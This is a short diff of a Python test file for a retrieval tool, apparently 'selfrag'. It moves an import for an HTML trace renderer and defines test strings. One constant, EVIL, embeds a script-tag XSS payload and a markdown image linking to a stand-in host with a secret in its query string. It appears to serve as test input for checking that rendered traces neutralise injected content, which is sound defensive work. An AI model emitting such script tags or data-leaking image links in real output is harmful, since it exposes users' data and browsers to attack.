@@ -13,9 +13,9 @@ import pytest
 from helpers import document_of, fused, plain
 
 from selfrag import Chunk, LLMError, Result
+from selfrag.cli.trace_html import render_trace_html, write_trace_html
 from selfrag.llm.base import ChatRequest
 from selfrag.testing import Scripted
-from selfrag.trace_html import render_trace_html, write_trace_html
 
 Q = "How many days do I have to ask for a refund?"
 EVIL = "Older orders <script>alert(1)</script> ![x](http://evil/?q=secret) had 14 days."
